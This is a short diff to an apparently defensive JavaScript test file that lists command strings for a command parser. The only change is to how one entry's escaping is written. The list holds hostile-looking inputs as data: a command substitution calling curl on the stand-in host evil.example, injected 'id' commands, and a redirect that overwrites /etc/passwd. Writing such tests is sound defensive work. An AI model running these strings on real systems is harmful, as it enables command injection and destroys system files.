@@ -25,7 +25,7 @@ describe('a simple command', () => {
     'npm install "$(curl evil.example)"',
     'npm install "`id`"',
     'npm install $HOME',
-    'npm install "${HOME}"',
+    `npm install "${'$'}{HOME}"`,
     "npm install $'\\x3b id'",
     'npm install > /etc/passwd',
     'npm install 2>&1',
